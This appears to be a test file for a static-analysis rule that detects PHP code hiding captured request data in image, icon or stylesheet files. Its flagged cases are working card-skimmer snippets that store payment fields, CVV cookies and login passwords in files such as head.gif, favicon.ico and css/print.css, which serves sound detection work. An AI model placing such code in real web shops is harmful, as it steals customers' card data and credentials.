<?php
if (isset($_POST['payment'])) {
    // ruleid: php-request-kept-in-picture-file
    file_put_contents('/srv/shop/media/head.gif', json_encode($_POST) . "\n", FILE_APPEND);
}

class Front
{
    private $line;

    public function collect()
    {
        $this->line = $_COOKIE['owner'] . ';' . $_COOKIE['cvv'];
    }

    public function store($root)
    {
        $out = fopen($root . '/skin/frontend/bg_top.png', 'a+');
        // ruleid: php-request-kept-in-picture-file
        fwrite($out, base64_encode($this->line));
        fclose($out);
    }
}

function by_parts()
{
    $folder = dirname(__FILE__) . '/images/';
    $leaf = 'spacer.jpg';
    $all = $_REQUEST;
    $all['from'] = $_SERVER['REMOTE_ADDR'];
    $text = serialize($all);
    $f = fopen($folder . $leaf, 'ab');
    // ruleid: php-request-kept-in-picture-file
    fputs($f, $text);
}

function by_name()
{
    $target = $_SERVER['DOCUMENT_ROOT'] . '/favicon.ico';
    // ruleid: php-request-kept-in-picture-file
    file_put_contents($target, print_r($_POST, true), FILE_APPEND | LOCK_EX);
}

function login_form()
{
    // ruleid: php-request-kept-in-picture-file
    error_log($_POST['log'] . ':' . $_POST['pwd'] . "\n", 3, 'css/print.css');
}

function picture()
{
    // ok: php-request-kept-in-picture-file
    file_put_contents('avatar.png', base64_decode($_POST['picture']));
}

function diary()
{
    // ok: php-request-kept-in-picture-file
    file_put_contents('/var/log/shop/orders.log', json_encode($_POST) . "\n", FILE_APPEND);
    $f = fopen('/var/log/shop/mail.log', 'a');
    // ok: php-request-kept-in-picture-file
    fwrite($f, serialize($_POST));
}

function chart($values)
{
    $f = fopen('/srv/shop/media/chart.svg', 'w');
    // ok: php-request-kept-in-picture-file
    fwrite($f, '<svg>' . implode(' ', $values) . '</svg>');
}
